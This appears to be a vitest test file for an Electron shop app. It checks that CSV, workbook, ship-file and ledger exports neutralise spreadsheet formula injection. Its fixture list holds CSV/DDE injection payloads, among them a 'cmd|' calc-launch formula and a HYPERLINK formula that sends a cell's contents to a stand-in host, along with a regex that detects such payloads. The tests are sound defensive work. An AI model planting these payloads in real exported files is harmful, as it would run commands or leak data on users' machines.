import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { projectFolder } from '../../../electron/dev/machine/folders.ts';
import { openTables } from '../../../electron/intake/open-files.ts';
import { readZipDirectory, unpackEntry } from '../../../electron/intake/workbook/zip-directory.ts';
import { writeTable, type Cell, type SheetColumn } from '../../../electron/use-cases/tables/write-table.ts';
import { exportLedger } from '../../../electron/use-cases/printing/number-export.ts';
import { writeShipFile } from '../../../shared/domain/collections/ship-file.ts';
import { platforms } from '../../../shared/domain/orders/platform.ts';
import { inertCell } from '../../../shared/domain/tables/inert-cell.ts';
import { addPaidOrder, addPrintedParcel, mustBe, openTestShop } from '../../support/shop.ts';
import { temporaryFolder } from '../../support/temp-folder.ts';

/** Every sign by which a spreadsheet knows a formula, alone and hidden behind what nobody sees. */
const signs = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠', '|', '%'];
const hidden = ['', ' ', '\u3000', '\u200b', '\ufeff', '\u00ad', '\t ', '\u0000'];
const hostile = [
  ...signs.flatMap((sign) => hidden.map((before) => `${before}${sign}1+1`)),
  `=cmd|' /C calc'!A0`, '=HYPERLINK("http://example.invalid?"&A1,"x")', '@SUM(1+9)*cmd|calc', '"=1+1', ';=1+1', ',=1+1', '\n=1+1', 'a\n=1+1',
];
/** As a spreadsheet that opens a CSV decides it: the first visible sign of the cell. */
const startsFormula = (cell: string): boolean => /^[\s\u0000\u00ad\u200b-\u200f\u2060\ufeff]*[=+\-@\uff1d\uff0b\uff0d\uff20]/.test(cell); // eslint-disable-line no-control-regex -- exactly those

const cellsOf = async (fileName: string, bytes: Uint8Array): Promise<string[]> => {
  const opened = await openTables({ fileName, bytes });
  if (!opened.ok) throw new Error(opened.refusal.code);
  return opened.tables.flatMap(({ head }) => head.flatMap(({ cells }) => cells));
};

const formulasIn = (workbook: Buffer): string[] =>
  (readZipDirectory(workbook) ?? []).filter(({ name }) => /worksheets\/.*\.xml$/.test(name)).flatMap((entry) => {
    const xml = unpackEntry(workbook, entry, 50_000_000)?.toString('utf8') ?? '';
    return [...xml.matchAll(/<f[ >][^]*?<\/f>/g)].map(([found]) => found);
  });

describe('case 17: what people wrote is text in every table that we write', () => {
  test('one rule: nothing that begins like a formula leaves as it is; order and waybill numbers are never touched', () => {
    for (const text of hostile) if (startsFormula(text)) expect(inertCell(text).startsWith("'"), JSON.stringify(text)).toBe(true);
    fc.assert(fc.property(fc.string({ unit: 'binary' }), (text) => {
      expect(startsFormula(inertCell(text))).toBe(false);
    }));
    fc.assert(fc.property(fc.stringMatching(/^[A-Z0-9#][A-Z0-9-]{3,34}$/), (number) => {
      expect(inertCell(number)).toBe(number);
    }));
  });

  const columns: readonly SheetColumn[] = [{ header: '文字', width: 10, format: 'text' }, { header: '=A1', width: 10, format: 'text' }];
  const rows: readonly (readonly Cell[])[] = hostile.slice(0, 50).map((text) => [text, '正常']);

  test('as CSV: no cell begins like a formula, and the app reads back as many rows', async () => {
    const path = join(temporaryFolder('tables'), 'a.csv');
    mustBe(await writeTable(path, '表', columns, rows));
    const cells = await cellsOf('a.csv', readFileSync(path));
    expect(cells.filter(startsFormula)).toEqual([]);
    expect(cells.filter((cell) => cell === '正常')).toHaveLength(rows.length);
  });

  test('as a workbook: text cells and no formula at all', async () => {
    const path = join(temporaryFolder('tables'), 'a.xlsx');
    mustBe(await writeTable(path, '=表', columns, rows));
    const bytes = readFileSync(path);
    expect(formulasIn(bytes)).toEqual([]);
    const cells = await cellsOf('a.xlsx', bytes);
    expect(cells).toEqual(expect.arrayContaining(['=1+1', '@1+1', '-1+1']));
  });

  test('in every platform’s ship file', async () => {
    for (const platform of platforms) {
      const file = writeShipFile(platform, hostile.map((text) => ({ platformOrderNumber: text, courierCode: text, waybillNumber: text })));
      if (file === null) continue;
      const cells = await cellsOf('ship.csv', file.content);
      expect(cells.filter(startsFormula), platform).toEqual([]);
    }
  });

  test('in the ledger of numbers, whatever the receiver is called', async () => {
    const shop = await openTestShop();
    for (const text of ['=1+1', '＝1+1', '@SUM(A1)', '-2+3']) addPrintedParcel(shop, [addPaidOrder(shop, { receiver: { name: text } })]);
    const path = join(shop.folder, 'ledger.xlsx');
    mustBe(await exportLedger(shop.services, shop.manager, null, path));
    const bytes = readFileSync(path);
    expect(formulasIn(bytes)).toEqual([]);
    expect(await cellsOf('ledger.xlsx', bytes)).toEqual(expect.arrayContaining(['=1+1', '@SUM(A1)']));
    shop.close();
  });

  test('and no other file of the app writes tables by itself', () => {
    const writers = ['electron', 'shared'].flatMap((folder) =>
      readdirSync(join(projectFolder, folder), { recursive: true, encoding: 'utf8' })
        .filter((name) => name.endsWith('.ts') && !name.startsWith('dev'))
        .map((name) => `${folder}/${name.replaceAll('\\', '/')}`)
        .filter((path) => /writeXlsx|join\(','\)\}?\\r\\n|map\(inCsv\)|map\(csvCell\)/.test(readFileSync(join(projectFolder, path), 'utf8'))));
    expect(writers.sort()).toEqual(['electron/use-cases/printing/number-export.ts', 'electron/use-cases/tables/write-table.ts', 'shared/domain/collections/ship-file.ts']);
  });
});
